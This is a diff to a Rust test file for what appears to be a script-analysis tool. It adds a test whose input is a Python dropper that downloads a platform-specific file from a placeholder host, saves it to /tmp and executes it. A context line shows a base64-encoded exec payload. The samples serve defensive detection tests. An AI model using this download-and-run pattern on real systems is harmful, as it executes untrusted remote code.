@@ -177,6 +177,18 @@ fn looks_into_what_interpreters_are_given() {
 }
 
 #[test]
+fn follows_one_of_several_files() {
+    let source = "import os, platform, requests\nwhere, path = {'a': ('http://h.invalid/a', '/tmp/a.bin'), 'b': ('http://h.invalid/b', '/tmp/b.bin')}[platform.system()]\nopen(path, 'wb').write(requests.get(where).content)\nos.system(path)";
+    let known = acts(source);
+    assert!(
+        known
+            .iter()
+            .any(|act| act.starts_with("Spawn") && act.contains("a download")),
+        "{known:?}"
+    );
+}
+
+#[test]
 fn takes_encoded_code_apart() {
     for source in [
         "exec(__import__('base64').b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))",
